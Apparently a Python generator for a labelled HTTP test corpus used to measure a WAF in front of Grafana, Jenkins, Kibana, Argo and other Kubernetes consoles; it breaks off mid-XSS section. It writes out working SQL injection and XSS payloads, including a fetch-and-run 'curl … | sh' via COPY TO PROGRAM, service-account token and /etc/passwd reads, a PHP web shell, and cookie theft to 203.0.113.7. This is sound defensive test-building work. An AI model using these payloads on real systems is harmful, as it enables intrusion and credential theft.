#!/usr/bin/env python3
"""Held-out HTTP corpus "cluster": the internal consoles and APIs of a Kubernetes platform.

What it is
    A deterministic generator (stdlib only, fixed seed) of labelled HTTP requests in the
    JSONL shape of /work/shared/corpora/README.md, for measuring the Palisade WAF on
    traffic it was not tuned for.  The WAF is imagined as a sidecar in front of the web
    consoles and APIs that run inside a Kubernetes platform:

    Grafana (dashboards, /api/ds/query with SQL / PromQL / LogQL / Elasticsearch targets,
    plugin and datasource proxy routes, alerting contact points and templates),
    Prometheus, Alertmanager and the blackbox exporter, Kibana / OpenSearch Dashboards
    (KQL, Lucene, saved objects, console proxy, Timelion and Vega), Argo CD and Argo
    Workflows, Jenkins (script console, job config.xml, Stapler /descriptorByName
    checks), GitLab and Gitea (webhooks, CI YAML, repository APIs), Harbor and the
    Docker registry v2 API, Vault (sys/ and secret/), Keycloak (admin REST, OIDC, SAML),
    Consul and etcd HTTP APIs, Envoy / Istio admin endpoints, Spring Boot actuators,
    Node/Express and Go services behind them, gRPC-web and Connect JSON calls, OTLP/JSON,
    and Kubernetes API server proxies (kubectl proxy, Dashboard, kubelet).

Modes
    attacks  every request is an attack that a WAF in front of these applications should
             flag (expect "detect"): SQL injection through datasource query APIs and
             dashboard variables, XSS in dashboard titles / annotations / panels, Grafana
             and Spring Cloud Config path traversal, remote file inclusion, Jenkins Groovy
             and Argo / CI command injection, PHP tool abuse, Java attacks (Log4Shell in
             headers, Spring actuator and gateway SpEL, Stapler, deserialisation), SSRF to
             in-cluster and cloud-metadata addresses in many notations, XXE in job
             config.xml and SAML, SSTI (Go / Sprig, Jinja, Freemarker, EJS ...), NoSQL and
             LDAP injection, CRLF in redirect parameters, request smuggling at the ingress,
             scanners, prototype pollution and webhook SSRF.
    benign   the same consoles used normally (expect "pass"): category "benign" carries
             ordinary data (dashboards with PromQL, Prometheus regex matchers, silences,
             Kibana searches, Argo syncs, Jenkins builds, webhook deliveries, Vault and
             Keycloak administration, health checks, scrapes, OTLP traces ...); category
             "dev-content" is legitimate traffic whose user content is itself code: SQL
             datasource queries, shell scripts, Groovy pipelines, Helm and Go templates,
             YAML manifests with commands, relabel regexes, markup.

Written blind
    This generator was written without reading the Palisade rule set, its tests or test
    data, its proxy profiles or any of the other corpus generators, and without running
    or building the WAF.  Payloads come from general knowledge of the applications and of
    published attacks against them, so the corpus measures generalisation, not recall of
    known test strings.

Run
    python3 scripts/corpus-cluster.py attacks > rulesets/tests/data/cluster-attacks.jsonl
    python3 scripts/corpus-cluster.py benign  > rulesets/tests/data/cluster-benign.jsonl
"""

import base64
import zlib
import datetime
import json
import random
import sys
import urllib.parse
from collections import Counter

SEED = 0xC1A57E12
RNG = random.Random(SEED)
SET = "cluster"

# --------------------------------------------------------------------------------------
# hosts and clients
# --------------------------------------------------------------------------------------

H = {
    "grafana": "grafana.ops.example.com",
    "prom": "prometheus.ops.example.com",
    "am": "alertmanager.ops.example.com",
    "bbox": "blackbox.ops.example.com",
    "kibana": "kibana.ops.example.com",
    "osd": "logs.example.net",
    "es": "elasticsearch.ops.example.com",
    "argocd": "argocd.platform.example.com",
    "argowf": "workflows.platform.example.com",
    "jenkins": "jenkins.ci.example.com",
    "gitlab": "gitlab.example.com",
    "gitea": "git.example.org",
    "harbor": "harbor.platform.example.com",
    "vault": "vault.platform.example.com",
    "keycloak": "sso.example.com",
    "consul": "consul.platform.example.com",
    "etcd": "etcd.platform.example.com",
    "envoy": "mesh-admin.platform.example.com",
    "istiod": "istiod.platform.example.com",
    "spring": "orders.apps.example.com",
    "gateway": "gateway.apps.example.com",
    "node": "admin-api.apps.example.com",
    "go": "inventory.apps.example.com",
    "connect": "billing.apps.example.com",
    "k8s": "k8s-proxy.platform.example.com",
    "dash": "dashboard.platform.example.com",
    "kubelet": "node-17.platform.example.com:10250",
    "otel": "otel.ops.example.com",
    "loki": "loki.ops.example.com",
    "tempo": "tempo.ops.example.com",
    "pma": "dbadmin.apps.example.com",
    "ingress": "apps.example.com",
    "awx": "awx.platform.example.com",
    "notify": "notify.ops.example.com",
    "confluence": "wiki.example.com",
    "couch": "couchdb.apps.example.com",
}

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0",
]
UA_TOOLS = {
    "curl": "curl/8.5.0",
    "curl7": "curl/7.88.1",
    "wget": "Wget/1.21.4",
    "python": "python-requests/2.31.0",
    "go": "Go-http-client/1.1",
    "go2": "Go-http-client/2.0",
    "kubectl": "kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8",
    "kubectl-mac": "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225",
    "probe": "kube-probe/1.29",
    "prometheus": "Prometheus/2.51.2",
    "alertmanager": "Alertmanager/0.27.0",
    "grafana": "Grafana/10.4.2",
    "argocd": "argocd-client/v2.11.3+0d4b7e4",
    "github": "GitHub-Hookshot/8f5c6d1",
    "gitlab": "GitLab/16.11.2",
    "gitea": "Gitea-Webhook",
    "harbor": "Harbor-Webhook/2.10",
    "vault": "vault/1.16.2",
    "node": "axios/1.6.8",
    "okhttp": "okhttp/4.12.0",
    "java": "Java/17.0.11",
    "docker": "docker/25.0.5 go/go1.21.10 git-commit/e63daec kernel/6.5.0-35-generic os/linux arch/amd64 UpstreamClient(Docker-Client/25.0.5 \\(linux\\))",
    "containerd": "containerd/v1.7.16",
    "helm": "Helm/3.14.4",
    "terraform": "HashiCorp Terraform/1.8.3 (+https://www.terraform.io) Terraform Plugin SDK/2.33.0 terraform-provider-vault/4.2.0",
    "otel": "OTel-OTLP-Exporter-Go/1.26.0",
    "otel-java": "OTel-OTLP-Exporter-Java/1.38.0",
    "jenkins-agent": "Jenkins-Agent/3206.vb_15dcf73f6a_9",
    "fluentbit": "Fluent-Bit",
    "promtail": "promtail/2.9.8",
    "envoy": "Envoy/HC",
    "consul": "Consul Health Check",
    "connect-go": "connect-go/1.16.2 (go1.22.3)",
    "grpc-web": "grpc-web-javascript/0.1",
    "slack": "Slackbot 1.0 (+https://api.slack.com/robots)",
    "keycloak-js": "keycloak-admin-client/24.0.4",
}


def ua_browser():
    return RNG.choice(UA_BROWSERS)


def hexs(n):
    return "".join(RNG.choice("0123456789abcdef") for _ in range(n))


def alnum(n):
    return "".join(RNG.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def b64u(data):
    if isinstance(data, str):
        data = data.encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def b64(data):
    if isinstance(data, str):
        data = data.encode()
    return base64.b64encode(data).decode()


def fake_uuid():
    h = hexs(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], RNG.choice("89ab"), h[17:20], h[20:32])


def jwt(claims, alg="RS256"):
    head = b64u(json.dumps({"alg": alg, "typ": "JWT", "kid": alnum(12)}, separators=(",", ":")))
    body = b64u(json.dumps(claims, separators=(",", ":")))
    sig = b64u(bytes(RNG.randrange(256) for _ in range(64 if alg.startswith("RS") else 32)))
    return "%s.%s.%s" % (head, body, sig)


EPOCH = 1717400000  # 2024-06-03T07:33:20Z, the corpus' "now"


def ts(offset_max=86400 * 20):
    return EPOCH - RNG.randrange(offset_max)


def iso(t=None, ms=False):
    t = ts() if t is None else t
    d = datetime.datetime.fromtimestamp(t, datetime.timezone.utc)
    if ms:
        return d.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % RNG.randrange(1000)
    return d.strftime("%Y-%m-%dT%H:%M:%SZ")


def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)


def qp(s):
    return urllib.parse.quote_plus(s)


def form(pairs):
    if isinstance(pairs, dict):
        pairs = list(pairs.items())
    return urllib.parse.urlencode(pairs)


def js(obj, pretty=False):
    if pretty:
        return json.dumps(obj, indent=2, ensure_ascii=False)
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def multipart(parts, boundary=None):
    """parts: list of (name, value, filename or None, content-type or None)."""
    boundary = boundary or ("----WebKitFormBoundary" + alnum(16))
    out = []
    for name, value, filename, ctype in parts:
        out.append("--" + boundary)
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % filename
        out.append(disp)
        if ctype:
            out.append("Content-Type: " + ctype)
        out.append("")
        out.append(value)
    out.append("--" + boundary + "--")
    out.append("")
    return "\r\n".join(out), "multipart/form-data; boundary=" + boundary


# --------------------------------------------------------------------------------------
# corpus container
# --------------------------------------------------------------------------------------


class Corpus:
    def __init__(self, kind):
        self.kind = kind  # "attacks" or "benign"
        self.items = []
        self.seen = Counter()

    def _id(self, slug):
        self.seen[slug] += 1
        return "%s/%s/%s-%03d" % (SET, self.kind, slug, self.seen[slug])

    def add(self, slug, category, method, uri, host, headers=(), body=None, ctype=None,
            ua=None, version="HTTP/1.1", accept=None):
        expect = "detect" if self.kind == "attacks" else "pass"
        hdrs = [["Host", host], ["User-Agent", ua or ua_browser()]]
        names = {h[0].lower() for h in headers}
        if "accept" not in names:
            hdrs.append(["Accept", accept or "application/json, text/plain, */*"])
        hdrs.extend([list(h) for h in headers])
        if body is not None:
            if ctype and "content-type" not in names:
                hdrs.append(["Content-Type", ctype])
            hdrs.append(["Content-Length", str(len(body.encode("utf-8")))])
        item = {
            "id": self._id(slug),
            "set": SET,
            "category": category,
            "expect": expect,
            "method": method,
            "uri": uri,
            "version": version,
            "headers": hdrs,
        }
        if body is not None:
            item["body"] = body
        self.items.append(item)
        return item

    def raw(self, slug, category, text):
        """A complete raw request; text uses \\r\\n line ends and is sent byte for byte."""
        expect = "detect" if self.kind == "attacks" else "pass"
        self.items.append({
            "id": self._id(slug),
            "set": SET,
            "category": category,
            "expect": expect,
            "raw_b64": b64(text.encode("utf-8")),
        })

    def dump(self, out):
        for it in self.items:
            out.write(json.dumps(it, ensure_ascii=False) + "\n")


# common header bundles ------------------------------------------------------------------

def xhr(origin_host, referer_path="/", cookie=None, extra=()):
    h = [
        ["Accept-Language", RNG.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8",
                                        "fr-FR,fr;q=0.9,en-US;q=0.7", "en-GB,en;q=0.9",
                                        "ja-JP,ja;q=0.9,en;q=0.8", "es-ES,es;q=0.9",
                                        "pt-BR,pt;q=0.9,en;q=0.8", "pl-PL,pl;q=0.9,en;q=0.7"])],
        ["Accept-Encoding", "gzip, deflate, br, zstd"],
        ["Origin", "https://" + origin_host],
        ["Referer", "https://" + origin_host + referer_path],
        ["Sec-Fetch-Dest", "empty"],
        ["Sec-Fetch-Mode", "cors"],
        ["Sec-Fetch-Site", "same-origin"],
    ]
    if cookie:
        h.append(["Cookie", cookie])
    h.extend([list(x) for x in extra])
    return h


def nav(referer=None, cookie=None):
    h = [
        ["Accept-Language", RNG.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9", "nl-NL,nl;q=0.9,en;q=0.8",
                                        "sv-SE,sv;q=0.9,en;q=0.8", "zh-CN,zh;q=0.9,en;q=0.8"])],
        ["Accept-Encoding", "gzip, deflate, br"],
        ["Upgrade-Insecure-Requests", "1"],
        ["Sec-Fetch-Dest", "document"],
        ["Sec-Fetch-Mode", "navigate"],
        ["Sec-Fetch-Site", "same-origin" if referer else "none"],
    ]
    if referer:
        h.append(["Referer", referer])
    if cookie:
        h.append(["Cookie", cookie])
    return h


HTML_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"


def grafana_cookie():
    return "grafana_session=%s; grafana_session_expiry=%d" % (hexs(32), EPOCH + 3600 - RNG.randrange(600))


def grafana_hdrs(path="/", extra=()):
    return xhr(H["grafana"], path, grafana_cookie(),
               [["X-Grafana-Org-Id", "1"], ["X-Grafana-Device-Id", hexs(32)]] + list(extra))


def argocd_cookie():
    return "argocd.token=" + jwt({"iss": "argocd", "sub": "admin:login", "exp": EPOCH + 86400,
                                  "nbf": EPOCH - 600, "iat": EPOCH - 600, "jti": fake_uuid()}, "HS256")


def jenkins_hdrs(path="/", extra=()):
    return xhr(H["jenkins"], path, "JSESSIONID.%s=node0%s.node0; screenResolution=1920x1080" % (hexs(8), alnum(26).lower()),
               [["Jenkins-Crumb", hexs(64)]] + list(extra))


def kibana_hdrs(path="/app/discover", extra=(), host=None):
    host = host or H["kibana"]
    xsrf = ["osd-xsrf", "true"] if host == H["osd"] else ["kbn-xsrf", "true"]
    return xhr(host, path, "sid=Fe26.2**%s*%s" % (hexs(64), b64u(bytes(RNG.randrange(256) for _ in range(48)))),
               [xsrf] + list(extra))


def bearer():
    return ["Authorization", "Bearer " + jwt({"iss": "https://%s/realms/platform" % H["keycloak"],
                                              "aud": "account", "sub": fake_uuid(), "typ": "Bearer",
                                              "azp": "ops-console", "exp": EPOCH + 300, "iat": EPOCH - 60,
                                              "preferred_username": RNG.choice(["jdoe", "mmueller", "akowalski", "tnakamura", "lgarcia"])})]


def vault_hdr():
    return ["X-Vault-Token", "hvs." + alnum(24)]


def k8s_hdr():
    return ["Authorization", "Bearer " + jwt({"iss": "kubernetes/serviceaccount",
                                              "kubernetes.io/serviceaccount/namespace": "ops",
                                              "sub": "system:serviceaccount:ops:console"})]


# --------------------------------------------------------------------------------------
# attacks
# --------------------------------------------------------------------------------------

def ds_query(dstype, uid, raw, fmt="table", extra=None, ref="A"):
    qd = {"refId": ref, "datasource": {"type": dstype, "uid": uid}, "rawSql": raw,
          "format": fmt, "datasourceId": RNG.randrange(1, 40), "intervalMs": 30000,
          "maxDataPoints": RNG.choice([600, 1200, 1812])}
    if extra:
        qd.update(extra)
    t = EPOCH * 1000
    return js({"queries": [qd], "from": str(t - 6 * 3600 * 1000), "to": str(t)})


def atk_sqli(c):
    g = H["grafana"]
    dsq = "/api/ds/query?ds_type=%s&requestId="
    pg = "grafana-postgresql-datasource"
    # datasource query API: the rawSql a Grafana editor sends to the SQL datasource
    for slug, dstype, uid, raw in [
        ("grafana-pg-copy-program", pg, "P44368ADAD746BC27",
         "SELECT 1; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.7/k.sh | sh'--"),
        ("grafana-pg-read-sa-token", pg, "P44368ADAD746BC27",
         "SELECT pg_read_file('/var/run/secrets/kubernetes.io/serviceaccount/token', 0, 4096) AS value"),
        ("grafana-pg-udf-libc", pg, "PB5C2E1A09F7D6E10",
         "CREATE OR REPLACE FUNCTION sys_exec(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE 'c' STRICT; SELECT sys_exec('id > /tmp/o')"),
        ("grafana-pg-lo-import", pg, "PB5C2E1A09F7D6E10",
         "SELECT lo_import('/etc/passwd', 31337); SELECT encode(lo_get(31337), 'escape')"),
        ("grafana-pg-dblink-exfil", pg, "P44368ADAD746BC27",
         "SELECT * FROM dblink('host=203.0.113.9 user=x password=x dbname=x', 'SELECT 1') AS t(a int) UNION SELECT usesysid FROM pg_shadow WHERE passwd IS NOT NULL"),
        ("grafana-mysql-load-file", "mysql", "MYSQL01", "SELECT LOAD_FILE('/etc/mysql/debian.cnf') AS metric, NOW() AS time_sec"),
        ("grafana-mysql-into-outfile", "mysql", "MYSQL01",
         "SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/health.php'"),
        ("grafana-mssql-xp-cmdshell", "mssql", "MSSQL7",
         "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC master..xp_cmdshell 'whoami /all'"),
        ("grafana-mssql-xp-dirtree", "mssql", "MSSQL7", "SELECT 1; EXEC master.dbo.xp_dirtree '\\\\203.0.113.7\\share', 1, 1--"),
        ("grafana-clickhouse-system-users", "grafana-clickhouse-datasource", "CH01",
         "SELECT now() AS t, 1 AS v UNION ALL SELECT now(), name FROM system.users FORMAT JSON"),
        ("grafana-oracle-utl-http", "grafana-oracle-datasource", "ORA01",
         "SELECT UTL_HTTP.REQUEST('http://203.0.113.7/'||(SELECT user FROM dual)) FROM dual"),
    ]:
        c.add(slug, "sqli", "POST", dsq % dstype + RNG.choice(["Q", "explore_"]) + str(RNG.randrange(100, 999)), g,
              grafana_hdrs("/explore?orgId=1"), ds_query(dstype, uid, raw), "application/json")

    # dashboard variables that the SQL datasource interpolates into rawSql
    for slug, var, val, enc in [
        ("grafana-var-or-true", "var-host", "web-1' OR '1'='1", "std"),
        ("grafana-var-pg-sleep", "var-db", "app');SELECT pg_sleep(10)--", "std"),
        ("grafana-var-mysql-sleep", "var-env", "prod' AND SLEEP(5)-- -", "plus"),
        ("grafana-var-blind-substring", "var-tenant", "acme' AND SUBSTRING((SELECT password FROM user LIMIT 1),1,1)='a", "std"),
        ("grafana-var-extractvalue", "var-cluster", "eu-1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ", "std"),
        ("grafana-var-union-double-enc", "var-service", "x') UNION SELECT usename,passwd FROM pg_shadow--", "double"),
        ("grafana-var-comment-obf", "var-region", "1')/**/UN/**/ION/**/SEL/**/ECT/**/1,table_name/**/FROM/**/information_schema.tables#", "raw"),
        ("grafana-var-versioned-comment", "var-node", "n1' /*!50000UNION*/ /*!50000SELECT*/ 1,@@version-- -", "std"),
    ]:
        if enc == "std":
            v = q(val)
        elif enc == "plus":
            v = qp(val)
        elif enc == "double":
            v = q(q(val))
        else:
            v = val.replace(" ", "%20").replace("'", "%27").replace("#", "%23")
        c.add(slug, "sqli", "GET", "/d/pgstats/postgres-overview?orgId=1&%s=%s&from=now-6h&to=now" % (var, v), g,
              nav("https://%s/dashboards" % g, grafana_cookie()), accept=HTML_ACCEPT)

    # the interpolated form as it reaches /api/ds/query from the panel
    c.add("grafana-panel-interpolated-union", "sqli", "POST", "/api/ds/query?ds_type=postgres", g,
          grafana_hdrs("/d/pgstats/postgres-overview"),
          ds_query(pg, "P44368ADAD746BC27",
                   "SELECT $__time(ts), value FROM metrics WHERE host IN ('web-1') UNION SELECT now(), token FROM api_keys--') AND $__timeFilter(ts)",
                   "time_series"), "application/json")

    # Harbor quota sort (CVE-2019-19026 style) and project name
    c.add("harbor-quota-sort-case", "sqli", "GET",
          "/api/v2.0/quotas?reference=project&sort=hard.storage,(CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%20(SELECT%201%20UNION%20SELECT%202)%20END)&page=1&page_size=10",
          H["harbor"], xhr(H["harbor"], "/harbor/projects", "sid=" + hexs(32)), ua=UA_TOOLS["python"])
    c.add("harbor-project-name-or", "sqli", "GET",
          "/api/v2.0/projects?name=library%27%20OR%20%271%27%3D%271&page=1&page_size=15", H["harbor"],
          [["Authorization", "Basic " + b64("robot$scanner:" + alnum(32))]], ua=UA_TOOLS["curl"])
    # Gitea repo search order
    c.add("gitea-search-order-sleep", "sqli", "GET",
          "/api/v1/repos/search?q=infra&sort=updated&order=desc,(select(1)from(select(sleep(5)))a)&limit=10",
          H["gitea"], [["Authorization", "token " + hexs(40)]], ua=UA_TOOLS["go"])
    # Argo Workflows archive list (SQL backed)
    c.add("argowf-archive-fieldselector", "sqli", "GET",
          "/api/v1/archived-workflows?listOptions.fieldSelector=metadata.namespace%3Dargo%27%20OR%20%271%27%3D%271&listOptions.limit=50",
          H["argowf"], [bearer()], ua=UA_TOOLS["curl"])
    # Spring / Go / Node services
    c.add("spring-orderby-stacked", "sqli", "GET",
          "/api/v1/tenants?page=0&size=20&orderBy=name;DROP%20TABLE%20tenants--", H["spring"],
          [bearer()], ua=UA_TOOLS["python"])
    c.add("node-filter-json-union", "sqli", "POST", "/api/admin/reports/run", H["node"], [bearer()],
          js({"report": "active-users", "filter": "status = 'active' OR 1=1 UNION SELECT id, api_key, NULL FROM service_accounts --", "limit": 100}),
          "application/json")
    c.add("go-cookie-tenant-union", "sqli", "GET", "/v1/items?limit=50", H["go"],
          [["Cookie", "tenant=acme' UNION SELECT NULL,NULL,token FROM sessions--; lang=en"]], ua=UA_TOOLS["curl"])
    c.add("go-xff-audit-pg-sleep", "sqli", "GET", "/v1/items/4411", H["go"],
          [["X-Forwarded-For", "203.0.113.5' AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL--"], bearer()], ua=UA_TOOLS["python"])
    c.add("go-json-sort-case-superuser", "sqli", "POST", "/v1/items/search", H["go"], [bearer()],
          js({"query": "gpu", "sort": "created_at DESC, (SELECT CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN pg_sleep(5) ELSE pg_sleep(0) END)"}),
          "application/json", ua=UA_TOOLS["node"])
    body, ct = multipart([("format", "csv", None, None),
                          ("filter", "1) OR 1=1; SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow--", None, None)])
    c.add("node-export-multipart", "sqli", "POST", "/api/admin/export", H["node"], [bearer()], body, ct)
    c.add("grafana-search-query-union", "sqli", "GET",
          "/api/search?query=%27)%20UNION%20ALL%20SELECT%20login,password,salt,1,1%20FROM%20user--&type=dash-db",
          g, grafana_hdrs("/dashboards"))
    c.add("keycloak-ext-userstore-or", "sqli", "GET",
          "/admin/realms/platform/users?briefRepresentation=true&first=0&max=20&search=a%25%27%20OR%20%271%27%3D%271%27--",
          H["keycloak"], [bearer()], ua=UA_TOOLS["keycloak-js"])
    c.add("grafana-mysql-heavy-cartesian", "sqli", "POST", "/api/ds/query?ds_type=mysql", g,
          grafana_hdrs("/explore"), ds_query("mysql", "MYSQL01",
                                             "SELECT host, 1 FROM hosts WHERE id=1 AND 1=(SELECT COUNT(*) FROM information_schema.tables A, information_schema.tables B, information_schema.tables C)"),
          "application/json", version="HTTP/2")
    c.add("opensearch-sql-plugin-union", "sqli", "POST", "/api/console/proxy?path=_plugins%2F_sql&method=POST", H["osd"],
          kibana_hdrs("/app/dev_tools#/console", host=H["osd"]),
          js({"query": "SELECT * FROM logs-app WHERE user = '' OR '1'='1' UNION SELECT * FROM .opendistro_security"}),
          "application/json")


def dashboard_body(title, panels=(), links=(), tags=()):
    return js({"dashboard": {"id": None, "uid": None, "title": title, "tags": list(tags), "timezone": "browser",
                             "schemaVersion": 39, "version": 0, "editable": True, "links": list(links),
                             "panels": list(panels), "time": {"from": "now-6h", "to": "now"}},
               "folderUid": "", "message": "", "overwrite": False})


def text_panel(content, mode="markdown"):
    return {"id": 2, "type": "text", "title": "Notes", "gridPos": {"h": 8, "w": 12, "x": 0, "y": 0},
            "options": {"mode": mode, "content": content}}


def atk_xss(c):
    g = H["grafana"]
    X = "xss"
    c.add("grafana-dashboard-title-img", X, "POST", "/api/dashboards/db", g, grafana_hdrs("/dashboard/new"),
          dashboard_body("<img src=x onerror=alert(document.domain)>"), "application/json")
    c.add("grafana-annotation-script", X, "POST", "/api/annotations", g, grafana_hdrs("/d/k8s-nodes/nodes"),
          js({"dashboardUID": "k8s-nodes", "panelId": 4, "time": EPOCH * 1000, "tags": ["deploy"],
              "text": "<script>fetch('//203.0.113.7/c?'+document.cookie)</script>"}), "application/json")
    c.add("grafana-annotation-tag-svg-animate", X, "POST", "/api/annotations", g, grafana_hdrs("/d/k8s-nodes/nodes"),
          js({"dashboardUID": "k8s-nodes", "time": EPOCH * 1000, "text": "rollout",
              "tags": ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>"]}), "application/json")
    c.add("grafana-text-markdown-js-link", X, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/ops/ops"),
          dashboard_body("Ops", [text_panel("## On-call\n[Runbook](javascript:fetch('//203.0.113.7/'+localStorage.getItem('grafana.token')))")]),
          "application/json")
    c.add("grafana-text-html-iframe-srcdoc", X, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/ops/ops"),
          dashboard_body("Ops", [text_panel('<iframe srcdoc="&lt;script&gt;parent.alert(document.cookie)&lt;/script&gt;"></iframe>', "html")]),
          "application/json")
    c.add("grafana-dashboard-link-javascript", X, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/ops/ops"),
          dashboard_body("Ops", links=[{"title": "Docs", "type": "link", "url": "javascript:alert(document.cookie)//", "targetBlank": False}]),
          "application/json")
    c.add("grafana-panel-link-data-uri", X, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/ops/ops"),
          dashboard_body("Ops", [{"id": 3, "type": "stat", "title": "Errors",
                                  "links": [{"title": "details", "url": "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"}]}]),
          "application/json")
    c.add("grafana-snapshot-angular-csti", X, "GET",
          "/dashboard/snapshot/%7B%7Bconstructor.constructor(%27alert(document.domain)%27)()%7D%7D?orgId=1", g,
          nav(None, grafana_cookie()), accept=HTML_ACCEPT, version="HTTP/2")
    c.add("prometheus-graph-expr-reflect", X, "GET",
          "/graph?g0.expr=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E&g0.tab=0&g0.range_input=1h", H["prom"], nav(), accept=HTML_ACCEPT)
    c.add("alertmanager-silence-comment", X, "POST", "/api/v2/silences", H["am"], xhr(H["am"], "/#/silences/new"),
          js({"matchers": [{"name": "alertname", "value": "KubePodCrashLooping", "isRegex": False, "isEqual": True}],
              "startsAt": iso(EPOCH), "endsAt": iso(EPOCH + 7200), "createdBy": "\"><script>alert(1)</script>",
              "comment": "<img src=x onerror=alert(document.domain)>"}), "application/json")
    c.add("kibana-saved-object-title", X, "POST", "/api/saved_objects/dashboard", H["kibana"], kibana_hdrs("/app/dashboards"),
          js({"attributes": {"title": "<svg/onload=alert(document.domain)>", "panelsJSON": "[]", "timeRestore": False}}),
          "application/json")
    c.add("kibana-vega-expression-escape", X, "POST", "/api/saved_objects/visualization", H["kibana"], kibana_hdrs("/app/visualize"),
          js({"attributes": {"title": "traffic", "visState": js({"type": "vega", "params": {"spec": js({
              "$schema": "https://vega.github.io/schema/vega/v5.json",
              "signals": [{"name": "x", "init": "'x'.constructor.constructor('alert(document.domain)')()"}]})}})}}),
          "application/json")
    c.add("kibana-login-next-javascript", X, "GET", "/login?next=javascript%3Aalert(document.domain)%2F%2F", H["kibana"],
          nav(), accept=HTML_ACCEPT)
    c.add("argocd-external-link-annotation", X, "PUT", "/api/v1/applications/payments?validate=true", H["argocd"],
          xhr(H["argocd"], "/applications/payments", argocd_cookie()),
          js({"metadata": {"name": "payments", "namespace": "argocd",
                           "annotations": {"link.argocd.argoproj.io/external-link": "javascript:alert(document.cookie)"}},
              "spec": {"project": "default", "source": {"repoURL": "https://gitlab.example.com/platform/payments.git",
                                                        "path": "deploy", "targetRevision": "main"},
                       "destination": {"server": "https://kubernetes.default.svc", "namespace": "payments"}}}),
          "application/json")
    c.add("argowf-description-markdown", X, "POST", "/api/v1/workflows/argo", H["argowf"], xhr(H["argowf"], "/workflows/argo"),
          js({"namespace": "argo", "workflow": {"metadata": {"generateName": "nightly-",
              "annotations": {"workflows.argoproj.io/description": "Nightly <img src=x onerror=alert(document.domain)>"}},
              "spec": {"workflowTemplateRef": {"name": "nightly-etl"}}}}), "application/json")
    c.add("jenkins-submit-description", X, "POST", "/job/deploy-api/submitDescription", H["jenkins"], jenkins_hdrs("/job/deploy-api/"),
          form([("description", "<script>new Image().src='//203.0.113.7/?'+document.cookie</script>"), ("Submit", "Submit")]),
          "application/x-www-form-urlencoded")
    c.add("jenkins-search-reflect", X, "GET", "/search/?q=%22%3E%3Csvg%20onload%3Dalert(1)%3E", H["jenkins"], nav(), accept=HTML_ACCEPT)
    c.add("jenkins-displayname-details", X, "POST", "/job/deploy-api/42/configSubmit", H["jenkins"], jenkins_hdrs("/job/deploy-api/42/configure"),
          form([("displayName", "<details open ontoggle=alert(document.domain)>"), ("description", ""),
                ("json", js({"displayName": "<details open ontoggle=alert(document.domain)>", "description": ""}))]),
          "application/x-www-form-urlencoded")
    c.add("jenkins-404-referer", X, "GET", "/job/does-not-exist/", H["jenkins"],
          [["Referer", "https://jenkins.ci.example.com/\"><script>alert(document.domain)</script>"]], accept=HTML_ACCEPT)
    c.add("gitlab-issue-js-href", X, "POST", "/api/v4/projects/12/issues", H["gitlab"], [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"title": "Broken link in runbook", "description": 'See <a href="javascript:alert(document.domain)">the docs</a> and <a href="jav&#x09;ascript:alert(1)">mirror</a>'}),
          "application/json", ua=UA_TOOLS["python"])
    c.add("gitlab-mr-title-mixed-case", X, "PUT", "/api/v4/projects/12/merge_requests/88", H["gitlab"], [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"title": "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"}), "application/json", ua=UA_TOOLS["curl"])
    c.add("keycloak-redirect-uri-javascript", X, "GET",
          "/realms/platform/protocol/openid-connect/auth?client_id=grafana&response_type=code&scope=openid&redirect_uri=javascript%3Aalert(document.domain)%2F%2F&state=" + hexs(16),
          H["keycloak"], nav(), accept=HTML_ACCEPT)
    c.add("keycloak-login-username", X, "POST",
